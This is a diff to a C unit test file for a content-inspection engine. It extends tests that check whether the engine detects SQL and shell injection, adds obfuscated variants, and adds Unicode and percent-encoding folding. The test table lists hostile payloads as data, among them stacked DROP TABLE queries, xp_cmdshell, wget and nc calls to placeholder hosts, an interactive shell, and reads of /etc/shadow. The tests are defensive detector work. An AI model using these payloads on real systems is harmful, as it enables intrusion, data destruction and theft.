@@ -80,6 +80,7 @@ START_TEST(mistakes_have_a_place)
 		{ "<rule name='a' xpath='//a[$b]'/>", "variable", 16 },
 		{ "<rule name='a' regexp='b'/>", "did you mean 'regex'?", 16 },
 		{ "<rule name='a'/>", "needs an xpath, a regex, or both", 1 },
+		{ "<rule name='a' xpath='x' fold='yes'/>", "fold needs a regex", 26 },
 		{ "<rule regex='a'/>", "needs a name", 1 },
 		{ "<rule name='a b' regex='a'/>", "is not a name", 7 },
 		{ "<rule name='a' regex=''/>", "is empty", 16 },
@@ -423,43 +424,87 @@ static void say(struct fmp_inspector *i, const char *words, const char *rule)
 START_TEST(injections_are_found)
 {
 	static const char *const rows[][2] = {
-		{ "1 UNION SELECT name FROM users", "sql-union" },
-		{ "1'/**/uNiOn/**/aLl/**/SeLeCt/**/1", "sql-union" },
-		{ "x' union(select 1)", "sql-union" },
-		{ "' or 1=1", "sql-quote" },
-		{ "' OR 'a'='a", "sql-quote" },
-		{ "x\" || \"1\" = \"1", "sql-quote" },
-		{ "1') and (select 1)=1", NULL },
-		{ "a' and substr like 'a%", "sql-quote" },
-		{ "7 or 1=1", "sql-number" },
-		{ "7 OR '1' = '1'", "sql-number" },
-		{ "7 and/**/2<>3", "sql-number" },
-		{ "admin'--", "sql-comment" },
-		{ "admin' #", "sql-comment" },
-		{ "admin')) -- ", "sql-comment" },
-		{ "1; DROP TABLE users", "sql-stacked" },
-		{ "1;delete from orders", "sql-stacked" },
+		{ "1 UNION SELECT name FROM users", "sql-" },
+		{ "1'/**/uNiOn/**/aLl/**/SeLeCt/**/1", "sql-" },
+		{ "x' union(select 1)", "sql-" },
+		{ "' or 1=1", "sql-" },
+		{ "' OR 'a'='a", "sql-" },
+		{ "x\" || \"1\" = \"1", "sql-" },
+		{ "1') and (select 1)=1", "sql-" },
+		{ "a' and substr like 'a%", "sql-" },
+		{ "7 or 1=1", "sql-" },
+		{ "7 OR '1' = '1'", "sql-" },
+		{ "7 and/**/2<>3", "sql-" },
+		{ "admin'--", "sql-" },
+		{ "admin' #", "sql-" },
+		{ "admin')) -- ", "sql-" },
+		{ "1; DROP TABLE users", "sql-" },
+		{ "1;delete from orders", "sql-" },
 		{ "1; exec master..xp_cmdshell 'dir'", "sql-" },
-		{ "1 and sleep(5)", "sql-function" },
-		{ "1 waitfor delay '0:0:5'", "sql-function" },
-		{ "(select table_name from information_schema.tables)", "sql-function" },
+		{ "1 and sleep(5)", "sql-" },
+		{ "1 waitfor delay '0:0:5'", "sql-" },
+		{ "(select table_name from information_schema.tables)", "sql-" },
 		{ "x; cat /etc/passwd", "shell-" },
-		{ "x;id", "shell-command" },
-		{ "x && wget http://a.example/b", "shell-command" },
-		{ "x | nc 192.0.2.1 4444", "shell-command" },
-		{ "`whoami`", "shell-command" },
-		{ "x\n/bin/sh -i", "shell-command" },
+		{ "x;id", "shell-" },
+		{ "x && wget http://a.example/b", "shell-" },
+		{ "x | nc 192.0.2.1 4444", "shell-" },
+		{ "`whoami`", "shell-" },
+		{ "x\n/bin/sh -i", "shell-" },
 		{ "$(reboot)", "shell-" },
-		{ "a;cat${IFS}b", "shell-expansion" },
-		{ "../../../etc/shadow", "shell-file" },
-		{ "a > /tmp/b", "shell-file" },
-		{ "cmd.exe /c dir", "shell-file" },
+		{ "a;cat${IFS}b", "shell-" },
+		{ "../../../etc/shadow", "shell-" },
+		{ "a > /tmp/b", "shell-" },
+		{ "cmd.exe /c dir", "shell-" },
+		{ "' OR true--", "sql-" },
+		{ "' OR EXISTS(SELECT 1)--", "sql-" },
+		{ "' || (SELECT 1)='1", "sql-" },
+		{ "1' ORDER BY 5--", "sql-" },
+		{ "1' GROUP BY x HAVING 1=1--", "sql-" },
+		{ "'\xc2\xa0OR\xc2\xa0"
+		  "1=1",
+		  "sql-" },
+		{ "'\xe2\x80\x8bOR\xe2\x80\x8b 1=1", "sql-" },
+		{ "\xef\xbc\x87 \xef\xbc\xaf\xef\xbc\xb2 1=1", "sql-" },
+		{ "%27%20or%201=1", "sql-" },
+		{ "%2527+or+1=1", "sql-" },
+		{ ";/bin/?\?/id", "shell-" },
+		{ ";i\\d", "shell-" },
+		{ "x;$HOME", "shell-" },
+		{ "$((1+1))", "shell-" },
 	};
 	struct fmp_inspector *i = shipped();
 
 	for (size_t n = 0; n < sizeof(rows) / sizeof(rows[0]); n++)
 		say(i, rows[n][0], rows[n][1]);
 	fmp_inspector_free(i);
+}
+END_TEST
+
+/* Folding is asked for, and hides nothing of what is written. */
+START_TEST(a_text_is_folded_where_the_rule_says_so)
+{
+	static const char wide[] = "\xef\xbd\x85\xef\xbd\x96\xef\xbd\x89\xef\xbd\x8c";
+	static const char *const read_as_evil[] = { wide,	"ev\xe2\x80\x8bil", "%65vil",
+						    "%2565vil", "%u0065vil",	    "evil" };
+	struct fmp_inspector *folds =
+		with_rules(FMP_SECURITY_BC, POLICY("<rule name='r' regex='^evil$' fold='yes'/>"));
+	struct fmp_inspector *plain =
+		with_rules(FMP_SECURITY_BC, POLICY("<rule name='r' regex='^evil$'/>"));
+	struct fmp_inspector *escape =
+		with_rules(FMP_SECURITY_BC, POLICY("<rule name='r' regex='%65' fold='yes'/>"));
+	char text[512];
+
+	for (size_t n = 0; n < sizeof(read_as_evil) / sizeof(read_as_evil[0]); n++) {
+		snprintf(text, sizeof(text), SAYS("%s"), read_as_evil[n]);
+		expect(folds, text, "\"r\" in x");
+		expect(plain, text, strcmp(read_as_evil[n], "evil") ? NULL : "\"r\" in x");
+	}
+	expect(escape, SAYS("%65vil"), "\"r\" in x");
+	expect(folds, SAYS("100% evil"), NULL);
+	expect(folds, SAYS("%c3%a9vil"), NULL);
+	fmp_inspector_free(folds);
+	fmp_inspector_free(plain);
+	fmp_inspector_free(escape);
 }
 END_TEST
 
@@ -513,6 +558,7 @@ int main(void)
 	tcase_add_test(tc, steps_are_counted);
 	tcase_add_test(tc, a_slow_rule_ends_soon);
 	tcase_add_test(tc, injections_are_found);
+	tcase_add_test(tc, a_text_is_folded_where_the_rule_says_so);
 	tcase_add_test(tc, what_people_write_is_not);
 	return run_tcase("content", tc);
 }
